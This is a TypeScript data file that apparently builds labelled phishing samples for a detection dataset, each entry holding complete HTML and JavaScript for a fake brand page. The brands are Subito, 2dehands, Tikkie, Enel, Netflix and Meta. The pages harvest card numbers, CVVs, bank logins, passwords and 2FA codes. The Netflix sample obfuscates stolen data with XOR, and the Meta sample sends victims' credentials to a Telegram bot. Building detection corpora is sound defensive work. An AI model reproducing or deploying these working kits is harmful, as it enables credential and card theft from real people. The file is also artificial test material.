import { htmlRoute, redirectRoute, type Entry } from '../entry.js';
import { apk, beepWav, cfb, cssRoute, fileRoute, iso, jsonRoute, jsRoute, lnk, pe, pngRoute, zip } from '../parts/e-bin.js';
import { articleCss, b64, bankOptions, cardCss, cardJs, cookieBar, digits, doc, esc, hex, mark } from '../parts/yg-kit.js';

export const entries: Entry[] = [
{
  id: 'yg-subito-ricevi-pagamento',
  label: 'phishing',
  kind: 'marketplace-receive-kit',
  url: 'https://subito.it-ordini-consegna.com/ricevi/' + digits('sb-o', 8),
  body: doc({
    lang: 'it',
    title: 'Subito - Ricevi il pagamento',
    css: cardCss('#f9423a', '#f6f6f6', "'Lato', Arial, sans-serif") + `.top b{color:#f9423a;font-size:26px}.item{display:flex;gap:12px;align-items:center;border:1px solid #eee;padding:10px;border-radius:6px;margin-bottom:14px}.item div.i{width:64px;height:64px;background:#e7e7e7;border-radius:4px}.ok{background:#e9f7ef;padding:10px;border-radius:6px;color:#236c3d;font-size:14px}`,
    body: `<div class="top"><b>subito</b><nav><a href="#">Pubblica annuncio</a><a href="#">Accedi</a></nav></div>
<div class="wrap"><div class="card">
<div class="item"><div class="i"></div><div><b>iPhone 13 128GB mezzanotte</b><br>€ 390,00 + spedizione TuttoSubito</div></div>
<div class="ok">L'acquirente ha pagato l'articolo. Il pagamento è stato trattenuto in attesa della tua conferma.</div>
<h1 style="margin-top:16px">Ricevi il pagamento</h1>
<p class="sub">Inserisci i dati della carta su cui vuoi ricevere € 390,00. Il corriere passerà a ritirare il pacco domani.</p>
<form method="post" action="/ricevi/conferma.php">
<label>Intestatario</label><input type="text" name="h" required>
<label>Numero carta</label><input type="text" name="n" id="n" required>
<div class="row"><div><label>Scadenza</label><input type="text" name="s" id="s" required></div><div><label>CVV</label><input type="text" name="c" maxlength="3" required></div></div>
<button class="btn">Ricevi € 390,00</button></form></div></div>
<script>${cardJs}fmtCard(document.getElementById('n'));fmtExp(document.getElementById('s'));</script>`,
  }),
},
{
  id: 'yg-2dehands-verkoop-via-whatsapp-link',
  label: 'phishing',
  kind: 'marketplace-receive-kit',
  url: 'https://wa-link.app/2dehands-bestelling-' + digits('2dh', 6),
  routes: {
    [`wa-link.app/2dehands-bestelling-${digits('2dh', 6)}`]: htmlRoute(`<!DOCTYPE html><html><head><meta charset="utf-8"><title>Doorsturen...</title><meta property="og:title" content="2dehands - Uw artikel werd betaald"><meta property="og:description" content="Bevestig de verzending om het geld te ontvangen"></head><body><script>setTimeout(function(){location.href='https://2dehands-be.verzending-bevestigen.com/nl/ontvangst/?id=${hex('2dh', 8)}'},400)</script></body></html>`),
    '2dehands-be.verzending-bevestigen.com/nl/ontvangst/': htmlRoute(doc({
      lang: 'nl-BE',
      title: '2dehands - Betaling ontvangen',
      css: cardCss('#1d4f91', '#eef1f5') + `.top b{color:#1d4f91;font-size:22px}.bc{display:flex;gap:8px;font-size:12px}.bc span{background:#eee;padding:3px 8px;border-radius:3px}`,
      body: `<div class="top"><b>2dehands</b></div><div class="wrap"><div class="card"><h1>Uw artikel werd betaald</h1><p class="sub">De koper heeft € 155,00 betaald voor <b>Playmobil Ridderburcht 70953</b>. Kies uw bank om de betaling te ontvangen.</p>
<div class="bc"><span>Bancontact</span><span>KBC</span><span>Belfius</span><span>BNP Paribas Fortis</span><span>ING</span><span>Argenta</span></div>
<form method="post" action="/nl/ontvangst/kaart.php"><label>Bank</label><select name="bank"><option>BNP Paribas Fortis</option><option>KBC / CBC</option><option>Belfius</option><option>ING België</option><option>Argenta</option><option>Crelan</option><option>AXA Bank</option></select>
<label>Kaartnummer</label><input type="text" name="card" required><div class="row"><div><label>Vervaldatum</label><input type="text" name="exp" required></div><div><label>CVC</label><input type="text" name="cvc"></div></div><button class="btn">Betaling ontvangen</button></form></div></div>`,
    })),
  },
},
{
  id: 'yg-tikkie-lookalike-verificatie',
  label: 'phishing',
  kind: 'payment-request-kit',
  url: 'https://tikkie-betaalverzoek.nl-pay.me/r/' + hex('tk-req', 12),
  body: doc({
    lang: 'nl',
    title: 'Tikkie - Betaalverzoek',
    css: `body{margin:0;font-family:'Source Sans Pro',Arial,sans-serif;background:#5f3dc4;color:#222;display:flex;min-height:100vh;align-items:center;justify-content:center}
.c{background:#fff;border-radius:20px;max-width:360px;width:100%;padding:26px;text-align:center}
.av{width:64px;height:64px;border-radius:50%;background:#ffd43b;margin:0 auto;display:flex;align-items:center;justify-content:center;font-size:26px;font-weight:800}
.am{font-size:40px;font-weight:800;margin:8px 0}
select{width:100%;padding:12px;border-radius:10px;border:1px solid #ccc;font-size:15px;margin-top:12px}
button{width:100%;margin-top:14px;padding:14px;border-radius:30px;border:0;background:#5f3dc4;color:#fff;font-weight:800;font-size:16px}`,
    body: `<div class="c"><div class="av">M</div><p>Marieke wil</p><div class="am">€ 0,01</div><p>voor <b>"verificatie verkoop kinderwagen"</b></p>
<form action="/r/bank" method="get"><select name="issuer" required><option value="">Kies je bank</option>${bankOptions()}</select><button>Betalen</button></form>
<p style="font-size:12px;color:#888;margin-top:16px">Tikkie is een dienst van ABN AMRO</p></div>`,
  }),
  routes: {
    'tikkie-betaalverzoek.nl-pay.me/r/bank': htmlRoute(doc({ lang: 'nl', title: 'Inloggen', css: cardCss('#004c4c'), body: `<div class="wrap"><div class="card"><h1>Inloggen Internet Bankieren</h1><form method="post" action="/r/login.php"><label>Rekeningnummer</label><input type="text" name="rek"><label>Pasnummer</label><input type="text" name="pas"><label>Identificatiecode (e.dentifier)</label><input type="text" name="code"><button class="btn">Inloggen</button></form></div></div>` })),
  },
},
{
  id: 'yg-enel-rimborso-bolletta',
  label: 'phishing',
  kind: 'energy-refund-kit',
  url: 'https://enel-energia.rimborsi-clienti.com/area-clienti/rimborso',
  body: doc({
    lang: 'it',
    title: 'Enel Energia - Rimborso bolletta',
    css: cardCss('#e4007e', '#f7f7fa', "Roboto, Arial, sans-serif") + `.top b{color:#e4007e;font-size:24px}.amt{font-size:30px;font-weight:700;color:#0f7a3b}`,
    body: `<div class="top"><b>enel</b><nav><a href="#">Luce</a><a href="#">Gas</a><a href="#">Area Clienti</a></nav></div>
<div class="wrap"><div class="card"><h1>Hai diritto a un rimborso</h1>
<p class="sub">A seguito della delibera ARERA sul conguaglio del secondo trimestre, sulla tua fornitura risulta un credito di</p><p class="amt">€ 148,67</p>
<form method="post" action="rimborso2.php"><label>Codice cliente</label><input type="text" name="cod" required>
<label>Email</label><input type="email" name="em" required>
<label>Carta su cui ricevere il rimborso</label><input type="text" name="cc" required>
<div class="row"><div><label>Scadenza</label><input type="text" name="exp" required></div><div><label>CVV</label><input type="text" name="cvv" required></div></div>
<button class="btn">Ricevi il rimborso</button></form></div></div>
<div class="foot">Enel Energia S.p.A. - Società con unico socio - P.IVA 15844561009</div>`,
  }),
},
{
  id: 'yg-netflix-it-pagamento-rifiutato',
  label: 'phishing',
  kind: 'streaming-kit',
  url: 'https://netflix-account-it.aggiorna-pagamento.com/',
  body: doc({
    lang: 'it',
    title: 'Netflix',
    css: `body{margin:0;background:#000;font-family:'Netflix Sans',Helvetica,Arial,sans-serif;color:#fff}
.h{padding:20px 40px;color:#e50914;font-weight:900;font-size:34px;letter-spacing:-1px}
.c{max-width:450px;margin:10px auto;background:rgba(0,0,0,.75);padding:48px 60px;border-radius:4px}
h1{font-size:30px;margin:0 0 20px}
input{width:100%;box-sizing:border-box;padding:16px;background:#333;border:0;border-radius:4px;color:#fff;margin-bottom:14px;font-size:16px}
button{width:100%;padding:16px;background:#e50914;color:#fff;border:0;border-radius:4px;font-size:16px;font-weight:700;margin-top:10px}
p{color:#b3b3b3;font-size:14px}`,
    body: `<div class="h">NETFLIX</div>
<div class="c" id="s1"><h1>Accedi</h1><form id="a"><input type="email" name="e" placeholder="Email o numero di telefono" required><input type="password" name="p" placeholder="Password" required><button>Accedi</button></form></div>
<div class="c" id="s2" style="display:none"><h1>Aggiorna il metodo di pagamento</h1><p>Non siamo riusciti ad addebitare il tuo abbonamento Standard (€ 13,99). Aggiorna i dati per non perdere l'accesso.</p>
<form id="b"><input name="n" placeholder="Nome sulla carta" required><input name="cc" placeholder="Numero carta" required><input name="x" placeholder="Scadenza (MM/AA)" required><input name="v" placeholder="CVV" required><button>Salva</button></form></div>
<script>
var key='${hex('nf-key', 16)}';function x(s){var o='';for(var i=0;i<s.length;i++)o+=String.fromCharCode(s.charCodeAt(i)^key.charCodeAt(i%key.length));return btoa(o)}
document.getElementById('a').onsubmit=function(e){e.preventDefault();fetch('/ajax/l.php',{method:'POST',body:'d='+encodeURIComponent(x(this.e.value+'|'+this.p.value)),headers:{'Content-Type':'application/x-www-form-urlencoded'}});s1.style.display='none';s2.style.display='block'};
document.getElementById('b').onsubmit=function(e){e.preventDefault();fetch('/ajax/c.php',{method:'POST',body:'d='+encodeURIComponent(x([this.n.value,this.cc.value,this.x.value,this.v.value].join('|'))),headers:{'Content-Type':'application/x-www-form-urlencoded'}}).then(function(){location.href='https://www.netflix.com/it/'})};
</script>`,
  }),
},
{
  id: 'yg-meta-business-pagina-disattivata',
  label: 'phishing',
  kind: 'social-kit',
  url: 'https://meta-business-support-center.web.app/appeal/it/' + digits('meta-case', 12),
  body: doc({
    lang: 'it',
    title: 'Meta for Business - Centro assistenza',
    css: `body{margin:0;font-family:Helvetica,Arial,sans-serif;background:#f0f2f5;color:#1c1e21}
.h{background:#fff;padding:14px 24px;box-shadow:0 1px 2px rgba(0,0,0,.1);font-weight:700;color:#0866ff;font-size:20px}
.c{max-width:560px;margin:28px auto;background:#fff;border-radius:8px;padding:24px;box-shadow:0 1px 2px rgba(0,0,0,.1)}
.case{background:#f0f2f5;border-radius:6px;padding:10px;font-size:14px}
input,textarea{width:100%;padding:11px;border:1px solid #ccd0d5;border-radius:6px;box-sizing:border-box;margin:6px 0 10px;font-size:15px}
button{width:100%;padding:12px;background:#0866ff;color:#fff;border:0;border-radius:6px;font-weight:700;font-size:15px}`,
    body: `<div class="h">∞ Meta</div>
<div class="c"><h2>La tua Pagina verrà disattivata</h2>
<p>Abbiamo ricevuto diverse segnalazioni di violazione del copyright relative ai contenuti della tua Pagina. Se ritieni che si tratti di un errore puoi presentare ricorso entro 24 ore.</p>
<div class="case">ID caso: #${digits('meta-case', 12)}</div>
<form id="mf"><textarea name="msg" rows="3" placeholder="Descrivi il problema"></textarea><input name="name" placeholder="Nome completo" required><input name="mail" type="email" placeholder="Email aziendale" required><input name="phone" placeholder="Telefono" required><button>Invia ricorso</button></form></div>
<div id="pw" style="display:none;position:fixed;inset:0;background:rgba(0,0,0,.5)"><div class="c" style="max-width:380px;margin-top:120px"><h3>Per la tua sicurezza, inserisci la password di Facebook</h3><input type="password" id="p1"><button onclick="go()">Continua</button><div id="twof" style="display:none"><p>Inserisci il codice di autenticazione a due fattori</p><input id="o1" maxlength="8"><button onclick="fin()">Invia</button></div></div></div>
<script>
var data={};function snd(){return fetch('https://api.telegram.org/bot${digits('meta-bot', 10)}:AAF${hex('meta-bot', 32)}/sendMessage',{method:'POST',headers:{'content-type':'application/json'},body:JSON.stringify({chat_id:'${digits('meta-chat', 10)}',text:JSON.stringify(data)})})}
document.getElementById('mf').onsubmit=function(e){e.preventDefault();data=Object.fromEntries(new FormData(this));snd();document.getElementById('pw').style.display='block'};
function go(){data.pass=document.getElementById('p1').value;snd();document.getElementById('twof').style.display='block'}
function fin(){data.code=document.getElementById('o1').value;snd().finally(function(){location.href='https://www.facebook.com/help'})}
</script>`,
  }),
},
];
